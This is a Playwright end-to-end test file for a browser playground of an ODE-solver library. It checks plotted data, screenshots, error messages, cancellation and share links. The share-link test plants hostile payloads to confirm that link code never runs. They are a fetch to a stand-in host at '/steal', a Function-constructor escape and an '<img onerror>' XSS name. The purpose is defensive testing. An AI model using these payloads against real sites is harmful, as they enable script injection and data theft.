// The playground end to end in headless Chromium (Debian's /usr/bin/chromium driven by
// playwright-core): build it, serve it on 127.0.0.1, and check
// - the data behind each plot (pixel-free): every gallery example's plotted samples against the
//   same problem solved here in Node by the library's own API, evaluated at the plotted times;
// - screenshots, decoded and checked for what matters: the Van der Pol relaxation jump is drawn
//   (x falls through the whole jump, v's spike is there), ROBER's B rises and falls on a log time
//   axis, and no plot of an earlier problem stays after a switch or an error;
// - errors next to their field with advice that fits the page, cancel with live progress, and
//   share links, hostile ones included: a link's sources are compiled, never run.
// Screenshots go to test/playground/screenshots/ (git-ignored). The same browser also loads the
// package's ESM builds straight from dist/ files.
import assert from "node:assert/strict";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { tmpdir } from "node:os";
import { dirname, extname, join, normalize } from "node:path";
import { after, before, test } from "node:test";
import { fileURLToPath } from "node:url";
import {
  AutoSwitch, ControlTerm, Dopri5, Event, MultiTerm, ODETerm, PIDController, Rodas5P, SaveAt, ShARK, Tsit5, Vern9,
  VirtualBrownianTree, compile, diffeqsolve, type AbstractSolver, type Solution,
} from "../../src/index.js";
import { GALLERY, type Example } from "../../playground/src/gallery.js";
import { encodeLink, type Shared } from "../../playground/src/link.js";
import { decodePng, pixelsOf } from "./png.js";

const CHROMIUM = "/usr/bin/chromium";
const root = join(dirname(fileURLToPath(import.meta.url)), "../..");
const shots = join(root, "test", "playground", "screenshots");
const skip = existsSync(CHROMIUM) ? false : `${CHROMIUM} is not installed (apt-get install -y chromium); the browser test needs it`;
const BLUE = "#4e79a7", RED = "#e15759"; // the first two colours of odeflow/plot's palette

type Browser = import("playwright-core").Browser;
type Page = import("playwright-core").Page;
type Context = import("playwright-core").BrowserContext;
let browser: Browser | null = null;
let context: Context | null = null;
let server: Server | null = null;
let base = "";
let page: Page | null = null;
const requests: string[] = [];
const out = mkdtempSync(join(tmpdir(), "odeflow-playground-"));
const TYPES: Record<string, string> = { ".html": "text/html", ".js": "text/javascript", ".css": "text/css", ".json": "application/json" };

before(async () => {
  if (skip) return;
  const { buildPlayground } = (await import("../../playground/build.mjs" as string)) as { buildPlayground: (o: string, opts: object) => Promise<string> };
  await buildPlayground(out, { minify: true });
  // /… serves the built playground; /dist/… the package's builds (for the ESM-from-files check).
  server = createServer((req, res) => {
    const url = new URL(req.url ?? "/", "http://x");
    const path = url.pathname === "/" ? "/index.html" : url.pathname;
    const file = path.startsWith("/dist/") ? join(root, normalize(path)) : join(out, normalize(path));
    if (!file.startsWith(root) && !file.startsWith(out)) return void res.writeHead(403).end();
    if (!existsSync(file)) return void res.writeHead(404).end();
    res.writeHead(200, { "content-type": TYPES[extname(file)] ?? "application/octet-stream" }).end(readFileSync(file));
  });
  await new Promise<void>((r) => server!.listen(0, "127.0.0.1", r));
  const address = server.address();
  base = `http://127.0.0.1:${typeof address === "object" && address ? address.port : 0}`;
  const { chromium } = await import("playwright-core");
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"],
  });
  context = await browser.newContext({ viewport: { width: 1360, height: 1000 }, deviceScaleFactor: 1 });
  context!.on("request", (r) => requests.push(r.url()));
  page = await context!.newPage();
  const errors: string[] = [];
  page.on("pageerror", (e) => errors.push(e.message));
  page.on("dialog", (d) => { errors.push(`a dialog opened: ${d.message()}`); void d.dismiss(); });
  await page.goto(`${base}/index.html`);
  // The page solves the first example on load.
  await page.waitForFunction(() => (window as any).playground?.runs >= 1, null, { timeout: 20_000 });
  assert.deepEqual(errors, []);
  mkdirSync(shots, { recursive: true });
});

after(async () => {
  await browser?.close();
  await new Promise<void>((r) => (server ? server.close(() => r()) : r()));
  rmSync(out, { recursive: true, force: true });
});

/** Selects a gallery entry (which solves it) and waits for the answer. */
async function choose(p: Page, id: string): Promise<void> {
  const runs = await p.evaluate(() => (window as any).playground.runs);
  await p.selectOption("#gallery", id);
  await p.waitForFunction((n) => (window as any).playground.runs > n, runs, { timeout: 30_000 });
}

/** Clicks Solve and waits for the answer. */
async function solveNow(p: Page): Promise<void> {
  const runs = await p.evaluate(() => (window as any).playground.runs);
  await p.click("#run");
  await p.waitForFunction((n) => (window as any).playground.runs > n, runs, { timeout: 30_000 });
}

/** The plotted figures (typed arrays as plain arrays) and the result's summary. */
async function plotted(p: Page): Promise<any> {
  // A string: tsx would give a function literal here helpers (__name) the page does not have.
  return p.evaluate(`(() => {
    const s = window.playground;
    // Data of the first series of each figure (an ensemble's other paths: their sizes only).
    const plain = (fig) => fig && { ...fig, series: fig.series.map((x, i) => ({ label: x.label, kind: x.kind, x: i < 8 || x.kind === "points" ? Array.from(x.x) : [x.x.length], y: i < 8 || x.kind === "points" ? Array.from(x.y) : [] })) };
    return { status: s.status, error: s.error, n: s.result?.n, paths: s.result?.paths.length, pathStats: s.result?.paths, time: plain(s.figures.time), phase: plain(s.figures.phase) };
  })()`);
}

/** The gallery problem solved here with the library's own API (dense output), one Solution per trajectory checked. */
function reference(ex: Example): Solution<any>[] {
  const f = compile(ex.code, { n: ex.y0.length, args: ex.args });
  const solvers: Record<string, () => AbstractSolver<any>> = {
    Tsit5: () => new Tsit5(), Rodas5P: () => new Rodas5P(), Dopri5: () => new Dopri5(), Vern9: () => new Vern9(), ShARK: () => new ShARK(),
    AutoSwitch: () => new AutoSwitch({ nonstiff: new Tsit5(), stiff: new Rodas5P() }),
  };
  const common = {
    solver: solvers[ex.solver]!(), t0: ex.t0, t1: ex.t1, y0: ex.y0, args: ex.args, saveat: new SaveAt({ t1: true, dense: true }),
    stepsizeController: new PIDController({ rtol: ex.rtol, atol: ex.atol }), maxSteps: 1_000_000,
  };
  if (ex.diffusion) {
    const sigma = ex.args.sigma!; // the gallery's SDE: additive noise g = σ, written here as a plain function
    const tree = new VirtualBrownianTree({ t0: ex.t0, t1: ex.t1, tol: 1e-6 * (ex.t1 - ex.t0), shape: ex.y0.length, levyArea: "space-time" });
    return Array.from({ length: ex.paths ?? 1 }, (_, p) => diffeqsolve({
      ...common, terms: new MultiTerm(new ODETerm(f), new ControlTerm((t, y, a, g) => void (g[0] = sigma), tree.withSeed(p), { noise: "diagonal", additive: true })),
    }));
  }
  // The event, written here as plain functions (the page compiles its text).
  const event = ex.event ? new Event({ cond: (t, y) => y[0]!, direction: "down", affect: (t, y) => { y[1] = -0.9 * y[1]!; } }) : undefined;
  return [diffeqsolve({ ...common, terms: new ODETerm(f), ...(event ? { event } : {}) })];
}

test("the gallery has the examples the page offers", () => {
  assert.deepEqual(GALLERY.map((e) => e.id), ["lorenz", "lorenz-ensemble", "vanderpol", "rober", "bouncing-ball", "sir", "pendulum", "arenstorf", "sde"]);
});

test("gallery: every example's plotted samples lie on the library's solution, solved in Node", { skip }, async () => {
  const p = page!;
  for (const ex of GALLERY) {
    const clock = performance.now();
    await choose(p, ex.id);
    const inBrowser = performance.now() - clock;
    const st = await plotted(p);
    assert.equal(st.status, "done", `${ex.id}: ${JSON.stringify(st.error)}`);
    const n = ex.y0.length;
    const paths = ex.paths ?? 1;
    assert.equal(st.paths, paths);
    assert.equal(st.time.series.length, n * paths, `${ex.id}: one series per component and trajectory`);
    const scale = (j: number): number => ex.view?.scale?.[j] ?? 1;
    // Trajectory 0 (the unperturbed start; for the SDE every path, at its end).
    const ref = reference(ex);
    let worst = 0;
    for (let j = 0; j < n; j++) {
      const s = st.time.series[j]!;
      const sol = ref[0]!;
      const size = Math.max(...s.y.filter((v: number) => Number.isFinite(v)).map((v: number) => Math.abs(v / scale(j))));
      for (let k = 0; k < s.x.length; k++) {
        const t = s.x[k]!;
        if (Number.isNaN(t) || t > ex.checkUntil || ex.diffusion) continue;
        // Next to an event the two sides are both plotted at the event time: compare with the side it belongs to.
        const side = Number.isNaN(s.x[k + 1] ?? 0) ? sol.events.find((e) => e.t === t)?.y : undefined;
        const want = (side ?? sol.evaluate(t))[j]! * scale(j);
        worst = Math.max(worst, Math.abs(s.y[k]! - want) / (scale(j) * (ex.atol + ex.rtol * size)));
      }
    }
    if (ex.diffusion) {
      // SDE output between steps depends on the step grid: compare each path where it ends, at t1.
      const sde = await p.evaluate(() => (window as any).playground.figures.time.series.map((s: { y: Float64Array }) => s.y[s.y.length - 1]));
      for (let q = 0; q < paths; q++) {
        const s = { y: [sde[q * n]] };
        const last = s.y[s.y.length - 1]!;
        const want = ref[q]!.ys[ref[q]!.ys.length - 1]![0]!;
        worst = Math.max(worst, Math.abs(last - want) / (ex.atol + ex.rtol * Math.abs(want)));
      }
    }
    // Same library, same settings, but Chromium's V8 and Node's may differ in the last bit of some
    // Math functions, so adaptive steps can differ: the two then agree to their global error, a
    // multiple of the tolerance (up to ~120 measured on the Arenstorf orbit). A plotting or
    // transfer mistake (wrong component, path, scale or time) is off by O(1/tolerance).
    console.log(`${ex.id}: ${st.time.series[0]!.x.length} samples, browser vs Node ${worst.toFixed(2)} × (atol + rtol·max|y|); ${inBrowser.toFixed(0)} ms in the page, ${(performance.now() - clock).toFixed(0)} ms in all`);
    assert.ok(worst <= 1000, `${ex.id}: largest difference ${worst} tolerances`);
    if (ex.phase[0] !== ex.phase[1]) {
      // The phase portrait is component j against component i of the same samples.
      assert.equal(st.phase.series.filter((s: { kind?: string }) => s.kind !== "points").length, paths);
      assert.equal(st.phase.equalAspect, ex.view?.phaseEqual === true);
    }
    if (ex.id === "arenstorf") {
      assert.deepEqual(st.phase.series.filter((s: { kind?: string }) => s.kind === "points").map((s: { label: string }) => s.label), ["Earth", "Moon"]);
    }
    if (ex.id === "bouncing-ball") {
      const ev = st.pathStats[0].events as number[];
      assert.ok(ev.length >= 5);
      assert.ok(Math.abs(ev[0]! - Math.sqrt(20 / 9.81)) < 1e-9, "first impact at √(2h/g)");
      // The velocity's line breaks at every impact.
      assert.equal(st.time.series[1]!.x.filter((t: number) => Number.isNaN(t)).length, ev.length);
    }
    if (ex.paths && ex.paths > 1) assert.equal(await p.locator("#path-stats tr").count(), ex.paths + 1, "stats per trajectory");
  }
});

/** A screenshot of one plot, its pixels, and the pixel position of data points (ECharts' own mapping). */
async function shot(p: Page, which: "time" | "phase", name: string, points: [number, number][]) {
  const png = await p.locator(`#plot-${which}`).screenshot();
  writeFileSync(join(shots, `${name}.png`), png);
  const at = await p.evaluate(([w, pts]) => pts.map((q) => (window as any).playground.charts[w].convertToPixel({ gridIndex: 0 }, q)), [which, points] as const);
  // The element's 1px border shifts its content.
  return { img: decodePng(png), at: (at as [number, number][]).map(([x, y]) => [x + 1, y + 1] as [number, number]) };
}

test("screenshots: the Van der Pol jump is drawn; ROBER's B rises and falls on a log time axis", { skip }, async () => {
  const p = page!;
  await choose(p, "vanderpol");
  const st = await plotted(p);
  const x = st.time.series[0]!;
  const k = x.y.findIndex((v: number, i: number) => v < 0 && x.y[i - 1]! > 0); // the first jump: x from +1 to −2
  const tj = x.x[k]!;
  let { img, at } = await shot(p, "time", "vanderpol", [[tj, 1], [tj, -2], [tj, -1]]);
  const [[px, top], [, bottom], [, minusOne]] = at as [[number, number], [number, number], [number, number]];
  const band = (color: string) => pixelsOf(img, color).filter(([cx]) => Math.abs(cx - px) <= 3).map(([, cy]) => cy);
  const blue = band(BLUE);
  assert.ok(Math.max(...blue) - Math.min(...blue) >= 0.8 * (bottom - top), `x's jump spans ${Math.max(...blue) - Math.min(...blue)} px of ${bottom - top}`);
  // v × 10⁻³ spikes to about −1.3 during the jump (an even grid of 801 times showed it flat).
  assert.ok(Math.max(...band(RED)) >= minusOne, "v's spike reaches below −1 (× 10³)");

  await choose(p, "rober");
  assert.equal(await p.evaluate(() => (window as any).playground.charts.time.getOption().xAxis[0].type), "log");
  const b = (await plotted(p)).time.series[1]!;
  assert.equal(b.label, "B × 10⁴");
  ({ img, at } = await shot(p, "time", "rober", [[1e-5, 0], [1e11, 0], [1e-2, 0.365]]));
  const red = pixelsOf(img, RED);
  const [[x0, y0], [x1], [, peak]] = at as [[number, number], [number, number], [number, number]];
  const ys = red.filter(([cx]) => cx > x0 && cx < x1).map(([, cy]) => cy);
  assert.ok(Math.min(...ys) <= peak + 3, "B × 10⁴ reaches its peak of 0.365");
  assert.ok(Math.max(...ys) >= y0 - 3, "and falls back to 0");
  const xs = red.filter(([, cy]) => cy < y0 - 20).map(([cx]) => cx);
  assert.ok(Math.max(...xs) - Math.min(...xs) > 0.3 * (x1 - x0), "over several decades of t, not a spike at one end");
});

test("nothing stale: a switch replaces the plots at once; an error clears them; an edit greys them out", { skip }, async () => {
  const p = page!;
  await choose(p, "rober");
  await choose(p, "sir");
  const st = await plotted(p);
  assert.deepEqual(st.time.series.map((s: { label: string }) => s.label), ["S", "I", "R"]);
  assert.equal(await p.evaluate(() => (window as any).playground.charts.time.getOption().xAxis[0].type), "value", "the log axis went with ROBER");
  assert.equal(await p.inputValue("#code").then((c) => c.includes("beta * s * i")), true);
  // Editing after a solve: the result is greyed out as no longer matching the inputs.
  await p.fill("#t1", "150");
  assert.equal(await p.evaluate(() => (window as any).playground.stale), true);
  assert.match(await p.locator("#plot-note").innerText(), /Solve to update/);
  // An error: the compiler's message next to the code, and no plot or statistics from before.
  await p.fill("#code", "function f(t, [s, i, r], { beta, gamma }) {\n  return [-beta * s * i, beta * s * i - gamma * i +, gamma * i];\n}");
  await solveNow(p);
  const err = await p.evaluate(() => (window as any).playground.error);
  assert.equal(err.where, "code");
  assert.equal(err.line, 2);
  assert.match(await p.locator("#code-error #error").innerText(), /^compile: .*\(line 2, column \d+\)[\s\S]*Fix: /);
  assert.equal(await p.locator("#stats tr").count(), 0, "no statistics of the earlier solve");
  const { img } = await shot(p, "time", "error-clears-plot", []);
  for (const c of [BLUE, RED]) assert.equal(pixelsOf(img, c, 30).length, 0, `no ${c} curve is left on the time plot`);
  // A misspelt parameter: advice that fits the page.
  await p.fill("#code", "function sir(t, [s, i, r], { beta, gamma }) {\n  return [-beta * s * i, betta * s * i - gamma * i, gamma * i];\n}");
  await solveNow(p);
  assert.match(await p.locator("#code-error #error").innerText(), /Fix: did you mean `beta`\?/);
});

test("a stiff problem with an explicit solver: the message names the fix in the solver dropdown", { skip }, async () => {
  const p = page!;
  await choose(p, "rober");
  await p.selectOption("#solver", "Tsit5");
  await p.fill("#t1", "1e5");
  await solveNow(p);
  const err = await p.evaluate(() => (window as any).playground.error);
  assert.equal(err.where, "solve");
  assert.match(await p.locator("#settings-error #error").innerText(), /stalled: The solve stalled[\s\S]*Fix: .*Rodas5P.*solver dropdown/);
  // A y0 shorter than the state the field reads: the compiler says so, at the code.
  await choose(p, "sir");
  await p.fill("#y0", "[0.99, 0.01]");
  await solveNow(p);
  assert.equal((await p.evaluate(() => (window as any).playground.error)).where, "code");
  assert.match(await p.locator("#code-error #error").innerText(), /the vector field reads y\[2\] but options\.n = 2/);
});

test("cancel: progress moves while the worker solves, the page answers, and Cancel stops it with the solution so far", { skip }, async () => {
  const p = page!;
  await choose(p, "lorenz");
  await p.fill("#t1", "20000");
  await p.fill("#rtol", "1e-12");
  const runs = await p.evaluate(() => (window as any).playground.runs);
  await p.click("#run");
  const t = Date.now();
  assert.equal(await p.evaluate(() => (window as any).playground.status), "running");
  assert.ok(Date.now() - t < 1000, "the main thread answers at once");
  await p.waitForFunction(() => (window as any).playground.progress.fraction > 0, null, { timeout: 20_000 });
  assert.match(await p.locator("#status").innerText(), /solving… \d+% \(t = /);
  await p.click("#cancel");
  await p.waitForFunction((n) => (window as any).playground.runs > n, runs, { timeout: 10_000 });
  const st = await plotted(p);
  assert.equal(st.status, "cancelled");
  const tEnd = st.pathStats[0].tFinal as number;
  assert.ok(tEnd > 0 && tEnd < 20000, `stopped at t = ${tEnd}`);
  assert.ok(st.time.series[0]!.x.length > 10, "what was solved is plotted");
  assert.match(await p.locator("#plot-note").innerText(), /Cancelled at t = /);
});

test("share links: a link reproduces the problem; a hostile link runs none of its code", { skip }, async () => {
  const p = page!;
  await choose(p, "bouncing-ball");
  await p.click("#share");
  const url = await p.inputValue("#share-url");
  assert.match(url, /#p=[A-Za-z0-9_-]+$/);
  const q = await context!.newPage();
  await q.goto(url);
  await q.waitForFunction(() => (window as any).playground?.runs >= 1, null, { timeout: 20_000 });
  const [a, b] = [await plotted(p), await plotted(q)];
  assert.equal(b.status, "done");
  assert.deepEqual(b.pathStats[0].events, a.pathStats[0].events, "the same events, from the link's compiled condition and affect");
  assert.equal(await q.inputValue("#event-affect"), await p.inputValue("#event-affect"));
  await q.close();

  const good: Shared = {
    code: "(t, [x, v], { k }) => [v, -k * x]", y0: [1, 0], args: { k: 4 }, t0: 0, t1: 5, solver: "Tsit5", rtol: 1e-6, atol: 1e-9,
    paths: 1, spread: 0, names: ["x", "v"], phase: [0, 1], view: {},
  };
  const pwn = "(window.__pwned = 1, fetch('http://203.0.113.9/steal'))";
  const hostile: [string, Partial<Shared>, string][] = [
    ["code", { code: `(t, y) => { ${pwn}; return [0, 0]; }` }, "code"],
    ["code calling the Function constructor", { code: "(t, y) => [y.constructor.constructor('window.__pwned = 1')(), 0]" }, "code"],
    ["event condition", { event: { cond: `(t, y) => ${pwn}`, direction: "down", terminal: false } }, "event"],
    ["event affect", { event: { cond: "(t, [x]) => x", direction: "down", terminal: false, affect: `(t, y) => { ${pwn}; return [0, 0]; }` } }, "event"],
    ["diffusion", { solver: "ShARK", diffusion: `(t, y, args, g) => { ${pwn}; g[0] = 1; }` }, "diffusion"],
    ["a diffusion with an ODE solver, as the old page would have run it", { diffusion: `(() => { ${pwn}; })()` }, "settings"],
  ];
  // One page, each link opened by changing the fragment (the page listens for hashchange).
  const page2 = await context!.newPage();
  await page2.goto(`${base}/index.html`);
  await page2.waitForFunction(() => (window as any).playground?.runs >= 1, null, { timeout: 20_000 });
  for (const [what, patch, where] of hostile) {
    const runs = await page2.evaluate(() => (window as any).playground.runs);
    await page2.evaluate((h) => void (location.hash = h), encodeLink({ ...good, ...patch } as Shared));
    await page2.waitForFunction((n) => (window as any).playground.runs > n && (window as any).playground.status !== "running", runs, { timeout: 20_000 });
    const st = await page2.evaluate(() => ({ pwned: (window as any).__pwned, error: (window as any).playground.error }));
    assert.equal(st.pwned, undefined, `${what}: the link's code ran`);
    assert.equal(st.error?.where, where, `${what}: ${JSON.stringify(st.error)}`);
  }
  await page2.close();
  // Names are text, never HTML; a link that is not a problem says so.
  const page3 = await context!.newPage();
  await page3.goto(`${base}/index.html${encodeLink({ ...good, names: ['<img src=x onerror="window.__pwned=1">', "v"] })}`);
  await page3.waitForFunction(() => (window as any).playground?.status === "done", null, { timeout: 20_000 });
  assert.equal(await page3.evaluate(() => (window as any).__pwned), undefined);
  assert.equal(await page3.locator("img").count(), 0);
  await page3.goto(`${base}/index.html#p=bm90IGpzb24`);
  await page3.reload();
  await page3.waitForFunction(() => (window as any).playground?.status === "error", null, { timeout: 20_000 });
  assert.match(await page3.locator("#settings-error #error").innerText(), /This link could not be opened/);
  await page3.close();
  assert.deepEqual(requests.filter((u) => !u.startsWith(base)), [], "no request left 127.0.0.1");
});

test("the ESM builds load in the browser straight from dist/ files", { skip }, async () => {
  for (const f of ["dist/index.js", "dist/esm/index.js"]) {
    assert.ok(existsSync(join(root, f)), `${f} is missing: run \`npm run build\` first (npm test does).`);
  }
  const p = await browser!.newPage();
  await p.goto(`${base}/index.html`);
  const values = await p.evaluate(async () => {
    const out: number[] = [];
    for (const url of ["/dist/index.js", "/dist/esm/index.js"]) {
      const o = await import(url);
      const sol = o.diffeqsolve({
        terms: new o.ODETerm((t: number, y: Float64Array, a: unknown, dy: Float64Array) => { dy[0] = -y[0]!; }),
        solver: new o.Tsit5(), t0: 0, t1: 1, y0: [1], stepsizeController: new o.PIDController({ rtol: 1e-10, atol: 1e-12 }),
      });
      out.push(sol.ys[0][0]);
    }
    return out;
  });
  await p.close();
  for (const v of values) assert.ok(Math.abs(v - Math.exp(-1)) < 1e-9);
});
